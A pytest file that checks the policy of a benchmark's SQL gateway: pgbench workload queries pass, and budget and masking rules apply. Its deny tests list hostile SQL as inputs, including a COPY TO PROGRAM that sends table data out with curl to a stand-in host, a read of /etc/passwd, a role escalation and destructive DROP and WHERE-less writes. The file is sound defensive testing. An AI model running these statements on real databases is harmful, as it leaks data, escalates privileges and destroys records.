"""The policy the benchmark's Wardgate runs with: every workload's statement passes, the
guardrails around it hold, the budget and the masking rule apply to the bench user."""

from __future__ import annotations

import pytest

from bench.wardgate import CONNECTION, POLICY, USER
from gateway.policy.budgets import applicable
from gateway.policy.masking import resolve
from gateway.policy.rules import Policy, PolicyConfig, Subject

CONFIG = PolicyConfig.model_validate(POLICY)
SUBJECT = Subject(user=USER, roles=("admin",))

# What the workloads send (bench/workloads.py), and pgbench's own start-up queries.
WORKLOAD_STATEMENTS = [
    "SELECT abalance FROM pgbench_accounts WHERE aid = 4217;",
    "SELECT abalance FROM pgbench_accounts WHERE aid = $1",
    "SELECT 1;",
    "select count(*) from pgbench_branches",
    "select o.n, p.partstrategy, pg_catalog.count(i.inhparent) from pg_catalog.pg_class as c "
    "join pg_catalog.pg_namespace as n on (n.oid = c.relnamespace) cross join lateral "
    "(select pg_catalog.array_position(pg_catalog.current_schemas(true), n.nspname)) as o(n) "
    "left join pg_catalog.pg_partitioned_table as p on (p.partrelid = c.oid) left join "
    "pg_catalog.pg_inherits as i on (c.oid = i.inhparent) where c.relname = 'pgbench_accounts' "
    "and o.n is not null group by 1, 2 order by 1 asc limit 1",
    "COPY (SELECT repeat('x', 1000) FROM generate_series(1, 10000)) TO STDOUT",
    "BEGIN",
    "COMMIT",
]


@pytest.mark.parametrize("sql", WORKLOAD_STATEMENTS)
def test_every_workload_statement_is_allowed(sql: str) -> None:
    decision = Policy(CONFIG).evaluate(SUBJECT, CONNECTION, sql)
    assert decision.allowed, decision.reason


@pytest.mark.parametrize(
    ("sql", "rule"),
    [
        ("DROP TABLE pgbench_accounts", "no-schema-or-privilege-changes"),
        ("GRANT SELECT ON pgbench_accounts TO public", "no-schema-or-privilege-changes"),
        ("COPY pgbench_accounts TO PROGRAM 'curl -d @- http://x'", "no-outside-data"),
        ("SELECT pg_read_file('/etc/passwd')", "no-outside-data"),
        ("SET ROLE postgres", "no-outside-data"),
        ("DELETE FROM pgbench_history", "no-where-less-writes"),
        ("UPDATE pgbench_accounts SET abalance = 0", "no-where-less-writes"),
    ],
)
def test_guardrails_deny(sql: str, rule: str) -> None:
    decision = Policy(CONFIG).evaluate(SUBJECT, CONNECTION, sql)
    assert decision.effect == "deny"
    assert rule in decision.rules


def test_what_no_rule_allows_is_denied_on_the_guarded_connection() -> None:
    for sql in ("SELECT * FROM secrets", "UPDATE pgbench_accounts SET abalance = 0 WHERE aid = 1"):
        assert Policy(CONFIG).evaluate(SUBJECT, CONNECTION, sql).effect == "deny", sql


def test_budget_and_masking_apply_to_the_bench_user() -> None:
    assert [b.name for b in applicable(CONFIG.budgets, SUBJECT, CONNECTION)] == ["bench-daily"]
    spec = resolve(CONFIG.masking, SUBJECT, CONNECTION, secret=None)
    assert [r.name for r in spec.rules] == ["employee-ids"]
    # No column rule: those refuse COPY TO STDOUT, the bulk workload.
    assert not any(r.columns for r in spec.rules)
